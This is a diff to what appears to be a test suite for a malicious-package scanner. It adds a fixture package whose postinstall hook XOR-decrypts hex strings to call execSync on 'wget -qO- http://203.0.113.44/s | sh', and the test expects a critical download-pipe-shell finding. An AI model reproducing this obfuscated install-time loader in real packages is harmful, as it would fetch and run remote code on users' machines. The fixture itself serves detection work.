@@ -154,6 +154,28 @@ require(open(0)).exec(open(1));`,
   });
 });
 
+describe('a blob decrypted in place through the buffer’s forEach (attacker rewrite)', () => {
+  it('a hex table in JSON, a key made by Buffer.from(text), decrypted by a helper in another file', () => {
+    const key = Buffer.from('k9#p');
+    const hex = (text: string) =>
+      Buffer.from(Buffer.from(text).map((b, i) => b ^ key[i % key.length]!)).toString('hex');
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node lib/init.js' } }),
+      'lib/table.json': JSON.stringify({
+        m: hex('child_process'),
+        c: hex('wget -qO- http://203.0.113.44/s | sh'),
+      }),
+      'lib/open.js': `const K = Buffer.from('k9#p');
+module.exports = (h) => { const b = Buffer.from(h, 'hex'); b.forEach((x, i) => { b[i] = x ^ K[i % K.length]; }); return b.toString('utf8'); };`,
+      'lib/init.js': `const t = require('./table.json');
+const open = require('./open');
+require(open(t.m))['exec' + 'Sync'](open(t.c));`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threats(r).map((f) => f.rule)).toContain('js.exec-download-pipe-shell');
+  });
+});
+
 describe('mail a tool sends through a provider API with a fixed copy recipient', () => {
   const server = (fields: string) =>
     analyzeSource({
